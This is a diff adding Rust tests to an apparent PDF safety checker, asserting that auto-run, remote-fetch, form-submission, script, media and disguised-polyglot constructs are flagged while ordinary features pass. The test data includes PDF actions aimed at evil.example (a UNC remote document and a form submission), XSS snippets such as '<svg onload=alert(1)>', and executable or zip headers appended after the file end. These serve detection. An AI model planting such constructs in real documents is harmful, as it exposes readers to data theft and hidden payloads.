@@ -131,6 +131,185 @@ fn what_acts_by_itself_is_found_wherever_it_stands() {
     }
 }
 
+#[test]
+fn what_reaches_beyond_the_document_is_refused_wherever_it_stands() {
+    for action in [
+        r"<< /S /GoToR /F (\\\\evil.example\\share\\a.pdf) /D [0 /Fit] >>",
+        "<< /S /GoToE /T << /R /C >> >>",
+        "<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>",
+        "<< /S /ImportData /F (data.fdf) >>",
+        "<< /S /Rendition /OP 0 >>",
+        "<< /S /RichMediaExecute >>",
+    ] {
+        let places = [
+            (format!("/OpenAction {action}"), "null".to_owned()),
+            (
+                String::new(),
+                format!("<< /Type /Annot /Subtype /Link /A {action} >>"),
+            ),
+            (
+                String::new(),
+                format!("<< /Type /Annot /Subtype /Widget /AA << /U {action} >> >>"),
+            ),
+            (
+                String::new(),
+                format!("<< /S /GoTo /D [3 0 R /Fit] /Next [{action}] >>"),
+            ),
+        ];
+        for (catalog, more) in places {
+            let found = fault(&letter(&catalog, &more));
+            assert_eq!(found, Some(ContentFault::Action), "{catalog} {more}");
+        }
+    }
+    for playing in ["RichMedia", "Movie", "Sound", "3D"] {
+        let annotation = format!("<< /Type /Annot /Subtype /{playing} >>");
+        assert_eq!(
+            fault(&letter("", &annotation)),
+            Some(ContentFault::Action),
+            "{playing}"
+        );
+    }
+}
+
+#[test]
+fn an_address_is_shown_by_a_click_and_not_by_opening() {
+    let address = "<< /S /URI /URI (https://a.example) >>";
+    let link = format!("<< /Type /Annot /Subtype /Link /A {address} >>");
+    assert_eq!(fault(&letter("", &link)), None);
+    for (catalog, more) in [
+        (format!("/OpenAction {address}"), "null"),
+        ("/OpenAction 5 0 R".to_owned(), address),
+        (
+            format!("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next {address} >>"),
+            "null",
+        ),
+        (format!("/AA << /WC {address} >>"), "null"),
+        (
+            "/AA 5 0 R".to_owned(),
+            "<< /WP << /S /URI /URI (https://a.example) >> >>",
+        ),
+    ] {
+        assert_eq!(
+            fault(&letter(&catalog, more)),
+            Some(ContentFault::Action),
+            "{catalog}"
+        );
+    }
+    // No action of the specification that is taken.
+    let unknown = "<< /Type /Annot /Subtype /Link /A << /S /Hide /T (field) >> >>";
+    assert_eq!(fault(&letter("", unknown)), Some(ContentFault::Action));
+    // Actions that lead to themselves end.
+    let circle = "<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>";
+    assert_eq!(
+        fault(&letter("/OpenAction 5 0 R", circle)),
+        Some(ContentFault::Action)
+    );
+}
+
+#[test]
+fn what_people_have_in_sound_documents_is_taken() {
+    for (catalog, more) in [
+        ("/OpenAction [3 0 R /Fit]", "null"),
+        ("/OpenAction << /S /GoTo /D [3 0 R /XYZ null null 0] >>", "null"),
+        ("", "<< /Title (Chapter) /A << /S /GoTo /D [3 0 R /Fit] >> >>"),
+        (
+            "",
+            "<< /Type /Annot /Subtype /Link /A << /S /Named /N /NextPage >> >>",
+        ),
+        // A tagged document, page labels, an output intent, and a group with transparency.
+        (
+            "/MarkInfo << /Marked true >>",
+            "<< /Type /StructElem /S /P /A << /O /Layout /TextAlign /Start >> >>",
+        ),
+        (
+            "/PageLabels << /Nums [0 << /S /D >>] >>",
+            "<< /Type /OutputIntent /S /GTS_PDFA1 >>",
+        ),
+        ("", "<< /Type /Group /S /Transparency /CS /DeviceRGB >>"),
+        // A form without actions, and a signature.
+        (
+            "/AcroForm << /Fields [5 0 R] /SigFlags 3 >>",
+            "<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) >>",
+        ),
+        (
+            "/AcroForm << /Fields [5 0 R] >>",
+            "<< /FT /Sig /T (s) /V << /Type /Sig /Filter /Adobe.PPKLite /Contents <3080> >> >>",
+        ),
+    ] {
+        assert_eq!(fault(&letter(catalog, more)), None, "{catalog} {more}");
+    }
+}
+
+#[test]
+fn bytes_behind_the_end_are_refused() {
+    let whole = letter("", "null");
+    let with = |behind: &str| [whole.clone(), behind.as_bytes().to_vec()].concat();
+    for behind in ["\n", "\r\n \t\r\n", "\0\0\0\0", "\u{1a}"] {
+        assert_eq!(fault(&with(behind)), None, "{behind:?}");
+    }
+    for behind in ["<html>", "PK\u{3}\u{4}", "MZ"] {
+        assert_eq!(fault(&with(behind)), Some(ContentFault::Disguised), "{behind:?}");
+    }
+}
+
+/// The document with an update behind it, whose table lists the fifth object as this and leaves out what stands before that.
+fn updated(unlisted: &str, fifth: &str) -> Vec<u8> {
+    let whole = letter("", "null");
+    let previous = whole.windows(5).position(|window| window == b"xref\n").unwrap();
+    let mut file = String::from_utf8(whole).unwrap();
+    file.push_str(unlisted);
+    let object = file.len();
+    write!(file, "5 0 obj\n{fifth}\nendobj\n").unwrap();
+    let table = file.len();
+    write!(
+        file,
+        "xref\n5 1\n{object:010} 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev {previous} >>\nstartxref\n{table}\n%%EOF\n"
+    )
+    .unwrap();
+    file.into_bytes()
+}
+
+#[test]
+fn a_document_that_was_updated_is_taken() {
+    assert_eq!(fault(&updated("", "(changed)")), None);
+    assert_eq!(
+        fault(&updated("", "<< /S /Launch >>")),
+        Some(ContentFault::Launch)
+    );
+}
+
+#[test]
+fn a_document_that_is_a_web_page_as_well_is_refused() {
+    let whole = String::from_utf8(letter("", "null")).unwrap();
+    for page in [
+        "<html>",
+        "<!DOCTYPE html>",
+        "<Script>alert(1)</script>",
+        "<svg onload=alert(1)>",
+    ] {
+        let both = whole.replacen("%PDF-1.7\n", &format!("%PDF-1.7\n%{page}\n"), 1);
+        assert_eq!(fault(both.as_bytes()), Some(ContentFault::Disguised), "{page}");
+    }
+    // What programs for metadata write.
+    let metadata =
+        "<< /Type /Metadata /Subtype /XML /Length 31 >>\nstream\n<x:xmpmeta xmlns:x='adobe:ns:'>\nendstream";
+    assert_eq!(fault(&letter("/Metadata 5 0 R", metadata)), None);
+}
+
+#[test]
+fn objects_that_the_table_leaves_out_are_looked_at_too() {
+    for (object, expected) in [
+        ("<< /S /JavaScript /JS (app) >>", Some(ContentFault::Script)),
+        ("<< /S /SubmitForm >>", Some(ContentFault::Action)),
+        ("(left by another update)", None),
+    ] {
+        let file = updated(&format!("9 0 obj\n{object}\nendobj\n"), "(changed)");
+        let listed = Document::load_mem(&file).unwrap();
+        assert!(listed.xref_recovery.is_none() && !listed.objects.contains_key(&(9, 0)));
+        assert_eq!(fault(&file), expected, "{object}");
+    }
+}
+
 /// The document with its objects in compressed streams.
 fn packed(pdf: &[u8]) -> Vec<u8> {
     let mut document = Document::load_mem(pdf).unwrap();
